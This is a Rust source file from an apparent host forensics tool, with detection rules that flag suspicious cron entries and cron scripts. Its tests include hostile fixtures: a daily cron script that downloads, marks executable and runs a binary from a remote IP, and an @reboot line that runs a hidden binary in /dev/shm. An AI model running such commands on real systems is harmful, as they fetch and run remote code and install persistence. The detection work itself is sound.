//! cron entries and scripts.

use super::common::*;
use super::content::*;
use crate::config::AnalysisConfig;
use crate::context::what;
use crate::context::{At, Ctx, canonical};
use crate::input::BundleInput;
use dossier_plugin_api::analysis::{Evidence, Finding, Ioc, Message};
use dossier_plugin_api::records::CronEntry;

pub(crate) fn root_cron_reboot(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    ctx.cron
        .iter()
        .filter(|c| c.rec.special.as_deref() == Some("reboot") && c.rec.run_as == "root")
        .map(|c| {
            let src = &c.rec.source.path;
            let text = |id: &str| {
                Message::new(id)
                    .text("file", src)
                    .text("line", c.rec.line)
                    .text("command", &c.rec.command)
            };
            let ev = ctx.ev(
                c,
                what(
                    "evidence.cron-entry",
                    &[("file", &src), ("line", &c.rec.line)],
                ),
                Some(&c.rec.source),
            );
            let mut iocs = vec![Ioc::CronCommand(c.rec.command.clone())];
            iocs.extend(segment_programs(&c.rec.command).into_iter().map(Ioc::Path));
            let subject = format!("{src}:{}", c.rec.line);
            // Persistence pointing at something bad is behaviour; an @reboot line running an
            // ordinary command (a late NFS mount) is context.
            match command_problem_msg(ctx, &c.rec.command) {
                Some(why) => explained(
                    subject,
                    text("finding.cron.reboot-because").msg("why", why),
                    ev,
                    iocs,
                ),
                None => explained(subject, text("finding.cron.reboot"), ev, iocs).context(),
            }
        })
        .collect()
}

/// Evidence of a cron entry.
fn cron_ev(ctx: &Ctx, c: &At<CronEntry>) -> Vec<Evidence> {
    let src = &c.rec.source.path;
    ctx.ev(
        c,
        what(
            "evidence.cron-entry",
            &[("file", &src), ("line", &c.rec.line)],
        ),
        Some(&c.rec.source),
    )
}

pub(crate) fn cron_suspicious_path(
    ctx: &Ctx,
    cfg: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for c in ctx.cron.iter().filter(|c| c.rec.format != "user") {
        let src = &c.rec.source.path;
        for prog in segment_programs(&c.rec.command) {
            if prog == "/dev/null" {
                continue;
            }
            let iocs = vec![
                Ioc::Path(prog.clone()),
                Ioc::CronCommand(c.rec.command.clone()),
            ];
            let runs = |id: &str| {
                Message::new(id)
                    .text("file", src)
                    .text("line", c.rec.line)
                    .text("program", &prog)
            };
            if let Some(why) = program_problem_msg(ctx, &prog) {
                // The same observation as exec-unusual-path's: counted once.
                out.push(
                    explained(
                        format!("{src}:{}", c.rec.line),
                        runs("finding.cron.runs-because").msg("why", why),
                        cron_ev(ctx, c),
                        iocs,
                    )
                    .with_fact(format!("exe-location:{}", canonical(&prog))),
                );
            } else if ctx.has_package_db && !ctx.is_owned(&prog) {
                out.push(
                    explained(
                        format!("{src}:{}", c.rec.line),
                        runs("finding.cron.runs-unowned"),
                        cron_ev(ctx, c),
                        iocs,
                    )
                    .context(),
                );
            }
        }
    }
    for s in ctx.cron_scripts.iter().filter(|s| s.rec.runs) {
        let target = s
            .rec
            .link_target
            .clone()
            .unwrap_or_else(|| s.rec.path.clone());
        let ev = ctx.ev(
            s,
            what("evidence.cron-script", &[("path", &s.rec.path)]),
            s.rec.source.as_ref(),
        );
        let iocs = vec![Ioc::Path(s.rec.path.clone())];
        let script = |id: &str| {
            Message::new(id)
                .text("period", &s.rec.period)
                .text("script", &s.rec.path)
        };
        if let Some(why) = unusual_location_msg(&target) {
            out.push(
                explained(
                    &s.rec.path,
                    script("finding.cron.script-because").msg("why", why),
                    ev,
                    iocs,
                )
                .with_fact(format!("exe-location:{}", canonical(&target))),
            );
            continue;
        }
        if !(ctx.has_package_db && !ctx.is_owned(&s.rec.path) && !ctx.is_owned(&target)) {
            continue;
        }
        // An unowned script: what it does decides.
        let bad = s
            .rec
            .source
            .as_ref()
            .and_then(|src| src.member.as_ref())
            .and_then(|m| (input.read_member)(m, cfg.max_scan_bytes.min(16 << 20)).ok())
            .and_then(|d| {
                script_patterns_msg(&String::from_utf8_lossy(&d))
                    .into_iter()
                    .next()
            });
        out.push(match bad {
            Some((n, line, why)) => explained(
                &s.rec.path,
                script("finding.cron.script-line")
                    .text("n", n)
                    .msg("why", why)
                    .text("line", line.chars().take(200).collect::<String>()),
                ev,
                iocs,
            ),
            None => {
                explained(&s.rec.path, script("finding.cron.script-unowned"), ev, iocs).context()
            }
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::config::AnalysisConfig;
    use crate::engine::analyze;
    use crate::testkit::input;
    use dossier_plugin_api::analysis::HostAnalysis;
    use serde_json::json;

    fn entry(
        line: usize,
        file: &str,
        special: Option<&str>,
        cmd: &str,
    ) -> (usize, serde_json::Value) {
        (
            line,
            json!({"kind": "cron_entry", "source": {"path": file}, "line": line, "format": "system",
                   "owner": "root", "schedule": special.map(|s| format!("@{s}")).unwrap_or("*/5 * * * *".into()),
                   "special": special, "run_as": "root", "command": cmd}),
        )
    }

    fn run(
        cron: Vec<(usize, serde_json::Value)>,
        scripts: &'static [(&str, &str)],
    ) -> HostAnalysis {
        let packages = vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "mount", "version": "2", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "mount", "files": ["/usr/bin/mount"], "source": {"path": "x"}}),
            ),
        ];
        let records = [
            ("cron".to_string(), cron),
            ("packages".to_string(), packages),
        ]
        .into_iter()
        .collect();
        let mut read = move |m: &str, _: u64| {
            scripts
                .iter()
                .find(|(p, _)| m == format!("raw{p}"))
                .map(|(_, t)| t.as_bytes().to_vec())
                .ok_or_else(|| "none".to_string())
        };
        let mut inp = input(records, &mut read);
        analyze(&mut inp, &AnalysisConfig::default())
    }

    #[test]
    fn reboot_lines_and_scripts_are_judged_by_what_they_run() {
        let script = |line: usize, path: &str| {
            (
                line,
                json!({"kind": "cron_script", "path": path, "period": "daily", "runs": true,
                       "source": {"path": path, "member": format!("raw{path}"), "sha256": "f".repeat(64)}}),
            )
        };
        let a = run(
            vec![
                entry(
                    1,
                    "/etc/crontab",
                    Some("reboot"),
                    "/usr/bin/mount -a -t nfs",
                ),
                entry(
                    2,
                    "/etc/crontab",
                    Some("reboot"),
                    "/dev/shm/.x/upd >/dev/null 2>&1",
                ),
                entry(
                    3,
                    "/etc/cron.d/health",
                    None,
                    "/usr/local/bin/pg-health --quiet",
                ),
                script(4, "/etc/cron.daily/cleanup"),
                script(5, "/etc/cron.daily/update-check"),
            ],
            &[
                (
                    "/etc/cron.daily/cleanup",
                    "#!/bin/sh\nfind /var/tmp/app -mtime +7 -delete\n",
                ),
                (
                    "/etc/cron.daily/update-check",
                    "#!/bin/sh\nwget -q -O /tmp/u http://198.51.100.9/u\nchmod +x /tmp/u\n/tmp/u\n",
                ),
            ],
        );
        let class = |rule: &str| crate::testkit::classes(&a, rule);
        assert_eq!(
            class("root-cron-reboot"),
            [
                ("/etc/crontab:2".to_string(), true),
                ("/etc/crontab:1".to_string(), false)
            ]
        );
        assert_eq!(
            class("cron-suspicious-path"),
            [
                ("/etc/cron.daily/update-check".to_string(), true),
                ("/etc/crontab:2".to_string(), true),
                ("/etc/cron.d/health:3".to_string(), false),
                ("/etc/cron.daily/cleanup".to_string(), false),
            ]
        );
        // The @reboot line's program in /dev/shm: one observation for exec-unusual-path and
        // cron-suspicious-path.
        let f = a
            .findings
            .iter()
            .find(|f| f.rule == "cron-suspicious-path" && f.subject == "/etc/crontab:2")
            .unwrap();
        assert_eq!(f.fact.as_deref(), Some("exe-location:/dev/shm/.x/upd"));
        assert_eq!(f.counted_under.as_deref(), Some("exec-unusual-path"));
    }
}
